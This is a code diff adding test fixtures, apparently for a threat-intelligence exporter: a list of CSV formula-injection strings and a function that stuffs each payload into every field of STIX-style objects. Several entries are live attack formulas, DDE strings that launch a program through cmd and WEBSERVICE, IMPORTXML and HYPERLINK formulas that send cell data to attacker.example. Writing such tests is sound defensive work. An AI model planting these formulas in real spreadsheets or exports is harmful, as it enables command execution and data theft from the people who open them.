@@ -264,3 +264,101 @@ export function hostileBundle(): { text: string; first: { id: string; name: stri
     first: { id: `intrusion-set--${uuid(3, 0)}`, name: PAYLOADS[0] ?? '' },
   };
 }
+
+/** Texts that a spreadsheet would run, and such as only look like it (OWASP, CSV injection). */
+export const FORMULAS: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  "'=1+1",
+  "''=1+1",
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=DDE("cmd";"/C calc";"!A0")',
+  '=WEBSERVICE("http://attacker.example/"&A1)',
+  '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
+  '=HYPERLINK("http://attacker.example?x="&A1,"click")',
+  '","=1+1',
+  '";=1+1;"',
+  'x\r\n=1+1',
+  'x\n@SUM(1)',
+  '"=1+1"',
+  '=1+1\n',
+  '=',
+  '-',
+  '+49 30 901820',
+  '-5',
+  '@handle',
+  "'quoted'",
+  ',=1+1',
+  ';=1+1',
+];
+
+const text = (payload: string, index: number): Record<string, unknown> => ({
+  ...common,
+  id: `malware--${uuid(11, index)}`,
+  type: 'malware',
+  name: payload,
+  is_family: true,
+  description: payload,
+  aliases: [payload, `a ${payload}`],
+  labels: [payload],
+  malware_types: [payload],
+  first_seen: payload,
+  external_references: [{ source_name: payload, url: payload, external_id: payload, description: payload }],
+});
+
+/** Objects of the types that writers know, every text of each of them one payload. As they stand in a store: whatever their types forbid. */
+export function hostileObjects(payload: string, index: number): Record<string, unknown>[] {
+  const malware = text(payload, index);
+  const of = (type: string, kind: number, more: Record<string, unknown>): Record<string, unknown> => ({
+    ...malware,
+    type,
+    id: `${type}--${uuid(kind, index)}`,
+    ...more,
+  });
+  const technique = of('attack-pattern', 12, {
+    x_mitre_domains: ['enterprise-attack', payload],
+    x_mitre_id: payload,
+    external_references: [
+      { source_name: 'mitre-attack', external_id: `T9${String(index % 1000).padStart(3, '0')}`, url: payload },
+      { source_name: payload, external_id: payload, description: payload },
+    ],
+  });
+  const observables = [
+    of('url', 13, { value: payload }),
+    of('domain-name', 14, { value: payload }),
+    of('file', 15, { name: payload, hashes: { MD5: payload, [payload]: payload } }),
+    of('windows-registry-key', 16, { key: payload }),
+  ];
+  const rule = (language: string, kind: number): Record<string, unknown> =>
+    of('indicator', kind, { pattern: payload, pattern_type: language, valid_from: payload });
+  const indicators = [
+    of('indicator', 17, {
+      pattern: `[url:value = '${payload.replace(/[\\']/g, '\\$&')}']`,
+      pattern_type: 'stix',
+      valid_from: STAMP,
+    }),
+    ...['yara', 'sigma', 'snort', 'suricata', payload].map((language, at) => rule(language, 18 + at)),
+  ];
+  const tie = of('relationship', 23, { relationship_type: payload, source_ref: malware['id'], target_ref: technique['id'] });
+  const sighting = of('sighting', 24, { sighting_of_ref: malware['id'], where_sighted_refs: [technique['id'], payload] });
+  const members = [malware, technique, ...observables, ...indicators, tie, sighting];
+  const note = of('note', 25, { abstract: payload, content: payload, object_refs: [malware['id']] });
+  const report = of('report', 26, {
+    published: payload,
+    report_types: [payload],
+    x_opencti_content: `## Key judgements\n\n- ${payload}\n`,
+    object_refs: [...members.map(({ id }) => id), note['id'], payload],
+  });
+  return [...members, note, report];
+}
